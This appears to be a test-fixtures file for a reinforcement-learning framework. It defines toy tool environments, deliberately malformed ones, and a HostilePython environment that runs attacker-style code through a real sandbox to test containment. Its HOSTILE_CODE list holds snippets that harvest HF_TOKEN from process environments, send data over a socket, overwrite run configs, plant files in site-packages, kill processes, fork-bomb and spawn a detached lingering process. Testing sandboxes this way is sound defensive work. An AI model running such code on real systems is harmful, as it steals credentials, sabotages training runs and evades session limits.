"""Environments as a user would write them, named `tests.env_fixtures:...` in the tests."""
from envs.environment import StepResult, prompt_messages

# A ChatML-like template for the 260K story model's tokenizer (which has none): every role, </s> ends a turn.
TEMPLATE = ("{% for m in messages %}{{ '<s>' if loop.first else '' }}[{{ m['role'] }}] {{ m['content'] }}</s>\n"
            "{% endfor %}{% if add_generation_prompt %}[assistant] {% endif %}")


class ThreeTurns:
    """Answers the first two assistant turns with a tool message, ends the episode after the third; each turn is
    worth 0.5 if it mentions "the"."""

    def reset(self, sample):
        self.turn = 0
        return prompt_messages(sample)

    def step(self, assistant_text):
        self.turn += 1
        reward = 0.5 * ("the" in assistant_text)
        if self.turn == 3:
            return StepResult(done=True, reward=reward)
        return StepResult([{"role": "tool", "content": f"result {self.turn}: seven"}], reward=reward)


class NotAnEnvironment:
    def reset(self, sample):
        return []


# Model-written code as an attacker writes it: HostilePython puts one of these in place of the sampled assistant
# turn, as a `python` tool call, and runs it through the real ToolEnv and sandbox (tests/test_sandbox.py).
HOSTILE_CODE = [
    "import os\nfound = str(os.environ)\nfor p in os.listdir('/proc'):\n    try: found += str(open(f'/proc/{p}/environ', "
    "'rb').read())\n    except OSError: pass\nassert 'HF_TOKEN' in found, 'no token found'\nprint(found)",
    "import socket, os\ns = socket.create_connection(('127.0.0.1', int('{port}')), timeout=2); s.sendall(b'LEAK')",
    "open('{run_dir}/config.yaml', 'w').write('POISON')",
    "open('{site}/rl_lora_evil.pth', 'w').write('import os')",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(-1, signal.SIGKILL)",
    "import os, time\nwhile True:\n    if os.fork() == 0: time.sleep(60)",
    "while True: print('x' * 100000)",
    "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sleep', ['sleep', '93.21'])",
]


class HostilePython:
    """A tool episode whose first assistant turn is replaced by a hostile `python` call; the tool's answer is logged
    (HOSTILE_LOG) and the episode ends on the next turn."""
    calls = 0

    def __init__(self):
        import os
        import sysconfig

        from envs.sandbox import open_sandbox
        from envs.tool_env import ToolCalls, ToolEnv
        from envs.tools import resolve_tools

        self.values = {"port": os.environ["HOSTILE_PORT"], "run_dir": os.environ["HOSTILE_RUN_DIR"],
                       "site": sysconfig.get_paths()["purelib"]}
        self.log = os.environ["HOSTILE_LOG"]
        self.tools = ToolEnv(resolve_tools("python"), ToolCalls(sandbox=open_sandbox("bwrap")))

    def reset(self, sample):
        self.turn = 0
        return self.tools.reset(sample)

    def step(self, assistant_text):
        import json

        self.turn += 1
        if self.turn > 1:
            return StepResult(done=True, reward=float("the" in assistant_text))
        code = HOSTILE_CODE[HostilePython.calls % len(HOSTILE_CODE)]
        for key, value in self.values.items():
            code = code.replace("{" + key + "}", value)
        HostilePython.calls += 1
        result = self.tools.step(f'<tool_call>{json.dumps({"name": "python", "arguments": {"code": code}})}'
                                 "</tool_call>")
        with open(self.log, "a") as log:
            log.write(json.dumps({"code": code, "answer": result.messages[0]["content"]}) + "\n")
        return result


# Environments that break the protocol, each its own way (the checked boundary's tests name them).
class ResetRaises(ThreeTurns):
    def reset(self, sample):
        raise KeyError("no such level")


class StepRaises(ThreeTurns):
    def step(self, assistant_text):
        raise ZeroDivisionError("division by zero\nin the scorer")


class ResetReturnsText(ThreeTurns):
    def reset(self, sample):
        return sample.prompt


class StepReturnsDict(ThreeTurns):
    def step(self, assistant_text):
        return {"messages": [], "done": True}


class IntContent(ThreeTurns):
    def step(self, assistant_text):
        return StepResult([{"role": "tool", "content": 7}])


class NaNReward(ThreeTurns):
    def step(self, assistant_text):
        return StepResult([{"role": "tool", "content": "ok"}], reward=float("nan"))


class FailsOnOdd(ThreeTurns):
    """Fine on every sample but those whose id ends in an odd digit."""

    def reset(self, sample):
        self.sample = sample
        return super().reset(sample)

    def step(self, assistant_text):
        if self.sample.id[-1] in "13579":
            raise RuntimeError("an odd sample")
        return super().step(assistant_text)
